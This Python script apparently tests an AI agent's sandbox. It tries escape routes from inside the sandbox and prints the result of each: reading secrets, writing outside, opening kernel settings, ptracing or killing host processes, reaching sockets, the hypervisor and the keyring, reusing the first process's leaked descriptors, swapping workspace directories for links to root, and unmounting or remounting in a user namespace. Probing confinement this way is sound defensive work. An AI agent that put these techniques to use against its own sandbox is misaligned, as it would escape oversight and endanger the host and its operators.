"""Attacks on this machine from inside a confined sandbox, as an agent could make them. Prints the outcome of each.

Its argument is a JSON object with the facts that an agent would have to guess.
"""

import ctypes
import errno
import json
import os
import socket
import sys
from pathlib import Path

ATTACH, DETACH, OF_MOUNT = 16, 2, 0x20000
KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
SEARCH, SESSION = 10, -3
libc = ctypes.CDLL(None, use_errno=True)
facts = json.loads(sys.argv[1])


def call(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), "")


def connect(address):
    with socket.socket(socket.AF_UNIX) as tried:
        tried.connect(address)


def search_keys(name):
    call(libc.syscall(KEYCTL, SEARCH, SESSION, b"user", name.encode(), 0))


def foreign_file(number):
    """Find a file that bubblewrap left open; its own event counter leads nowhere."""
    if str(Path(f"/proc/1/fd/{number}").readlink()).startswith("anon_inode:"):
        raise OSError(errno.ENXIO, "")


def above(path):
    """Return the directories above a path, without the root."""
    return [one for one in Path(path).parents if one != Path("/")]


def replace(path):
    """Put a link where a directory is: the next process would have it as its workspace."""
    Path(path).rename(f"{path}.moved")
    Path(path).symlink_to("/")


def in_user_namespace(act):
    """Do it with all the rights of a namespace of one's own."""
    call(libc.unshare(OF_MOUNT | 0x10000000))
    act()


def forked(attempt):
    """Do it in a child, which reports its error as an exit code."""
    if pid := os.fork():
        if code := os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
            raise OSError(code, "")
        return
    try:
        attempt()
    except OSError as error:
        os._exit(error.errno)
    os._exit(0)


def attempts():
    for path in facts["secrets"]:
        yield (
            f"read {path}",
            lambda path=path: list(Path(path).iterdir()) if Path(path).is_dir() else Path(path).read_bytes(),
        )
    for path in facts["outside"]:
        yield f"write {path}", lambda path=path: Path(path, "planted").touch()
    for path in facts["elsewhere"]:
        Path(path).mkdir(parents=True, exist_ok=True)  # of the sandbox's own /tmp
        Path(path, "planted").touch()
    yield "open a setting of the kernel", lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    yield "open the keys of the keyboard", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    for pid in facts["pids"]:
        yield f"see {pid}", lambda pid=pid: Path(f"/proc/{pid}").stat()
        yield f"kill {pid}", lambda pid=pid: os.kill(pid, 0)
        yield f"trace {pid}", lambda pid=pid: call(libc.ptrace(ATTACH, pid, None, None))
    yield "connect to an abstract socket", lambda: connect("\0" + facts["abstract"])
    yield "connect to a socket with a path", lambda: connect(facts["socket"])
    if facts["closed"]:
        yield "reach the hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM).close()
    yield "find a key", lambda: search_keys(facts["key"])
    for number in range(3, 64):
        yield f"use file {number} of the first process", lambda number=number: foreign_file(number)
    for path in above(facts["workspace"]):
        yield f"move {path}", lambda path=path: replace(path)
        yield f"unmount {path}", lambda path=path: call(libc.umount2(str(path).encode(), DETACH))
        yield (
            f"unmount {path} as root",
            lambda path=path: forked(lambda: in_user_namespace(lambda: call(libc.umount2(str(path).encode(), DETACH)))),
        )
    for path in facts["programs"]:
        yield f"change {path}", lambda path=path: Path(path, "planted").touch()
        yield f"move {path}", lambda path=path: replace(path)
        yield f"remount {path}", lambda path=path: call(libc.mount(None, path.encode(), None, 0x1020, None))
        yield (
            f"remount {path} as root",
            lambda path=path: forked(
                lambda: in_user_namespace(lambda: call(libc.mount(None, path.encode(), None, 0x1020, None)))
            ),
        )


def main():
    became = {}
    for name, attempt in attempts():
        try:
            attempt()
        except OSError as error:
            became[name] = errno.errorcode[error.errno]
        else:
            became[name] = "done"
    print(json.dumps(became))


main()
